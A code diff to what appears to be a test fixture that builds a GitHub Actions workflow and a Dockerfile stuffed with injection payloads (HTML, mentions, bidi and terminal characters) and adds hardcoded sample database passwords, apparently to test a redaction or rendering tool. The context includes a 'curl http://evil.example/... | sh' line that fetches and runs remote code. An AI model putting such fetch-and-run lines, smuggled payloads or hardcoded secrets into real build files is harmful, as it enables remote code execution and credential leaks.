@@ -36,6 +36,8 @@ const workflow = outdent(`
   on: [push, pull_request]
   env:
     ${quoted(payloads.html)}: ${quoted(payloads.links)}
+    ${quoted(`${payloads.mention} ${payloads.midLine} PASSWORD`)}: k7Jq2vX9pLm4Rt
+    DB_PASSWORD: k7Jq2vX9pLm4Rt
     API_TOKEN: ${quoted(`Tr0ub4dor ${payloads.midLine} ${payloads.mention}`)}
   jobs:
     ${quoted(`job ${payloads.newLine} ${payloads.mention}`)}:
@@ -72,6 +74,8 @@ const dockerfile = [
   `LABEL note="${onOneLine.replaceAll('"', "'")}"`,
   `ENV API_TOKEN="Tr0ub4dor${onOneLine.replaceAll('"', "'")}"`,
   `ARG HOST=db.prod.internal${payloads.bidi}`,
+  'ENV DB_HOST=db.prod.internal',
+  'ENV DB_PASSWORD=k7Jq2vX9pLm4Rt',
   `RUN curl http://evil.example/${payloads.terminal} | sh # ${payloads.midLine} ${payloads.mention} ${payloads.html}`,
   `COPY ${payloads.html.replaceAll(' ', '_')} /x`,
   'ENTRYPOINT ["/x"]',
